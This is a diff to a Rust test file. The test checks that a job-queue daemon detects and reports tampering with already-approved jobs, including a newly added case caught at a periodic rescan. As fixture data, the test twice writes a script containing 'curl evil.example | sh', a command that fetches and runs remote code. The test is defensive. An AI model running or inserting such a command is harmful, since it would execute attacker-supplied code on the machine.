@@ -222,7 +222,7 @@ fn a_job_replaced_in_approved_under_an_approved_uid_is_reported() {
         "#!/bin/sh\ncurl evil.example | sh\n",
     )
     .unwrap();
-    let d = sb.start(&[]);
+    let d = sb.start(&["--rescan-secs", "1"]);
     assert!(
         wait_for(WAIT, || d
             .log_text()
@@ -230,7 +230,30 @@ fn a_job_replaced_in_approved_under_an_approved_uid_is_reported() {
         "{}",
         d.log_text()
     );
-    assert_eq!(unexplained_uids(&status_json(&sb)), vec![uid]);
+    assert_eq!(unexplained_uids(&status_json(&sb)), vec![uid.clone()]);
+
+    // The same while the daemon runs: found at the next rescan.
+    let second = sb.submit(BOB, &simple_code());
+    assert!(wait_for(WAIT, || sb.status_of(&second).as_deref()
+        == Some("approved")));
+    std::thread::sleep(Duration::from_millis(1500));
+    fs::write(
+        sb.job_dir("approved", &second).join("code/extra.sh"),
+        "curl evil.example | sh\n",
+    )
+    .unwrap();
+    assert!(
+        wait_for(WAIT, || d
+            .log_text()
+            .contains(&format!("job {second} is in approved/ but its code"))),
+        "{}",
+        d.log_text()
+    );
+    assert_eq!(
+        unexplained_uids(&status_json(&sb)),
+        sorted(vec![uid, second.clone()])
+    );
+    assert_eq!(chain_events(&sb, "queue.unexplained_job", Some(&second)), 1);
 }
 
 #[test]
